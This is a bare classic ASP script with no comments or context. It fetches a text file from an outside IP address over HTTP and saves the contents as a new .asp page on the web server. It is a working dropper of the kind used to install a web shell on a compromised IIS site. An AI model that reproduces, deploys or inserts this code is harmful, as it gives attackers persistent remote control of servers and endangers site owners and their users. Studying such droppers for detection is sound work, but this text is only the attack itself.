<%
Set x = CreateObject("Microsoft.XMLHTTP")
x.Open "GET", "http://203.0.113.7/s.txt", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1: s.Open: s.Write x.ResponseBody
s.SaveToFile Server.MapPath("s.asp"), 2
%>
